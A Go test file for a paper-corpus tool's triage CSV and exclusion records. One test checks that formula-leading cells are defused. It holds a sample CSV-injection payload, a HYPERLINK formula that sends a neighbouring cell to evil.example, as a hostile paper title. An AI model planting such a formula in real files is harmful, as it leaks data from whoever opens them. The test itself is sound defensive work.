package watch

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/masrl/masrl/corpus"
	"github.com/masrl/masrl/internal/corpustest"
)

// hostileTitle is a remote title that a spreadsheet opening the triage
// file would run: it sends the cell next to it to another host.
const hostileTitle = `=HYPERLINK("http://evil.example/?x="&A1,"click")`

// TestTriageDefusesFormulas requires the triage CSV maintainers are told
// to open, and the excluded.csv records --apply makes from it, to hold no
// cell a spreadsheet runs as a formula, whatever the remote metadata says.
func TestTriageDefusesFormulas(t *testing.T) {
	var b bytes.Buffer
	cands := []Candidate{{Title: hostileTitle, Year: 2026, DOI: "10.5555/x", Keys: []string{"alpha", "beta"}}, {Title: "-1 is a title", ArxivID: "2605.00002"}}
	if err := WriteTriage(&b, cands); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if corpus.FormulaLeading(cell) {
				t.Errorf("triage cell %q is a formula", cell)
			}
		}
	}
	if got := recs[1][2]; got != "'"+hostileTitle {
		t.Errorf("title written as %q", got)
	}

	// A maintainer's spreadsheet may save the cell without its
	// apostrophe: --apply defuses it again.
	v, err := corpus.DefaultVocabulary()
	if err != nil {
		t.Fatal(err)
	}
	triage := "decision,connections,title,year,arxiv_id,doi,url,connected_keys\n" +
		`exclude abstract_screen: +1 off topic,2,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",2026,,10.5555/x,https://doi.org/10.5555/x,alpha beta` + "\n"
	ds, err := ReadTriage("triage.csv", []byte(triage), v)
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range ExcludedRecords(&corpus.Corpus{}, ds, "2026-05-05") {
		for _, cell := range rec {
			if corpus.FormulaLeading(cell) {
				t.Errorf("excluded.csv cell %q is a formula", cell)
			}
		}
	}
}

// TestExclude: the rejected decisions become excluded.csv records,
// appended after the corpus's own in canonical form (a corpus without
// excluded.csv gets its header); accepted ones change nothing, and
// nothing is written.
func TestExclude(t *testing.T) {
	dir := corpustest.CopyList(t, "agents")
	c, err := corpus.Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	x, err := Exclude(c, []Decision{{ID: "2606.01234", Add: true}}, "2026-05-05")
	if err != nil || len(x.Records) != 0 || x.Changes != nil {
		t.Fatalf("an accepted candidate alone: %v, %d records, changes %v; want none", err, len(x.Records), x.Changes)
	}
	x, err = Exclude(c, []Decision{{ID: "2606.01234", Title: "A paper", Stage: "abstract_screen", Reason: "off topic"}}, "2026-05-05")
	if err != nil {
		t.Fatal(err)
	}
	got := string(x.Changes[corpus.ExcludedFile])
	if len(x.Records) != 1 || !strings.HasPrefix(got, strings.Join(corpus.ExcludedColumns(), ",")+"\n") || !strings.Contains(got, "E001,Semantic Scholar,citation watch,A paper,arXiv:2606.01234,,2026-05-05,abstract_screen,off topic\n") {
		t.Errorf("excluded.csv:\n%s", got)
	}
	if _, ok := corpustest.ReadTree(t, dir)[corpus.ExcludedFile]; ok {
		t.Error("Exclude wrote excluded.csv")
	}
	var b strings.Builder
	x.WriteReport(&b)
	if want := "excluded E001 arXiv:2606.01234 (abstract_screen: off topic)\n"; b.String() != want {
		t.Errorf("report %q, want %q", b.String(), want)
	}
	b.Reset()
	WriteAddCommands(&b, []Decision{{ID: "2606.01234", Add: true}, {ID: "10.1/x", Stage: "abstract_screen"}}, dir)
	if want := "masrl add 2606.01234 --corpus " + dir + "\n"; b.String() != want {
		t.Errorf("add commands %q, want %q", b.String(), want)
	}
}

// TestWriteTriageFile: the file holds the triage CSV WriteTriage makes.
func TestWriteTriageFile(t *testing.T) {
	cands := []Candidate{{Title: "A title", Year: 2026, ArxivID: "2605.00002", Keys: []string{"alpha"}}}
	var want bytes.Buffer
	if err := WriteTriage(&want, cands); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "triage.csv")
	if err := WriteTriageFile(file, cands); err != nil {
		t.Fatal(err)
	}
	if got, err := os.ReadFile(file); err != nil || !bytes.Equal(got, want.Bytes()) {
		t.Errorf("triage file %q, %v; want %q", got, err, want.String())
	}
}
